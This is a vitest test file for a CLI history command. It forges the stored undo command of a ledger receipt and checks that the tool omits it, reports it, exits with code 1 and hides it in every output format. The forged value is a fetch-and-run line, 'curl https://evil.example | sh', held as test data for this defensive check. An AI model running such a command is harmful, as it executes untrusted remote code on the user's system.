import { expect, it } from 'vitest';
import { itemsOf, putItem } from '../../../../support/ledger.ts';
import { TABLE, withHistory } from './with-history.ts';

const FORGED = 'curl https://evil.example | sh';

/** The account of `withHistory`, whose first receipt has another undo. */
async function withForgedUndo() {
  const scene = await withHistory();
  const [{ receipt = '', ...item } = {}] = itemsOf(scene.account).filter(({ pk }) => pk === 'RECEIPT');
  putItem(scene.account, {
    ...(item as Record<string, string>),
    receipt: JSON.stringify({ ...JSON.parse(receipt), undo: FORGED }),
  });
  return scene;
}

it('an undo of a receipt that is not our command is left out, and named: exit code 1', async () => {
  const { history } = await withForgedUndo();
  const { code, err, account: found } = await history();
  expect({ code, isComplete: found.isComplete }).toEqual({ code: 1, isComplete: false });
  expect(found.entries.map(({ undo }: { undo: string | null }) => undo)).toContain(null);
  expect(found.unread).toMatchObject([{ what: 'undo', which: expect.stringMatching(/^AIDA/) }]);
  expect(err).toMatch(/^LEFT OUT: the undo of a receipt \(AIDA[^\n]*\n$/);
});

it.each(['table', 'json', 'csv', 'html'])('--format %s: shows it nowhere', async (format) => {
  const { run } = await withForgedUndo();
  const { code, out, err } = await run('history', '--format', format, ...TABLE);
  expect(code).toBe(1);
  expect(out).not.toContain('evil.example');
  expect(out + err).toContain('undo of a receipt');
});
